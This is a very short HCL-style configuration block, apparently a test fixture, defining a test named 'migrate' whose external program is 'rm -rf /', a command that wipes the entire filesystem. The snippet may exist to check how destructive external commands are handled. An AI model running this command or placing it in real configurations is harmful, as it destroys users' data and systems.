test "migrate" "a" {
  external { program = ["rm", "-rf", "/"] }
}
